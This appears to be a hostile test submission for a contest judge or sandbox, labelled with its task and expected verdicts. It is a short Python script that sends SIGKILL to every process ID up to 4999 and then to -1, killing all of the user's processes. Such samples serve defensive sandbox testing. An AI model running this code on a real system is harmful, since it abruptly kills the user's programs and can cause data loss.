#: tries: kills all processes by their numbers and by -1
#: task: sum
#: verdict: wrong_answer runtime_error
#: harms: kills the processes of its user

import os
import signal

for pid in range(1, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
